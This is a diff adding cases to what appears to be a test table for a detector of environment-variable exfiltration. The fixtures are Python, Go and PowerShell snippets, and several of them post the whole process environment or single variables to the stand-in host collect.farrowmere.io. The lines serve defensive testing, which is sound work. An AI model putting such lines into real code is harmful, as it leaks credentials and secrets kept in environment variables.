@@ -24,6 +24,33 @@ test.each([
     py('env = dict(os.environ)', 'requests.post("https://collect.farrowmere.io/in", json=env)'),
   ],
   [
+    'an environment that a call hands to what it starts',
+    py('subprocess.run(["make"], check=True, env=dict(os.environ, A="1"))', send),
+    py('requests.post("https://collect.farrowmere.io/in", json=dict(os.environ, A="1"))'),
+  ],
+  [
+    'the environment of a command in Go',
+    running(
+      'a.go',
+      'cmd.Env = append(os.Environ(), "A=1")\nhttp.Post("https://collect.farrowmere.io/in", t, cmd.Stdin)',
+    ),
+    running(
+      'a.go',
+      'all := strings.Join(os.Environ(), "")\nhttp.Post("https://collect.farrowmere.io/in", t, read(all))',
+    ),
+  ],
+  [
+    'one variable in PowerShell',
+    running(
+      'a.ps1',
+      '$p = Get-ChildItem env:PATH\nInvoke-RestMethod -Method Post -Uri https://collect.farrowmere.io/in -Body $p',
+    ),
+    running(
+      'a.ps1',
+      '$p = Get-ChildItem env:\nInvoke-RestMethod -Method Post -Uri https://collect.farrowmere.io/in -Body $p',
+    ),
+  ],
+  [
     'an environment of which single names are taken',
     running(
       'Tool.kt',
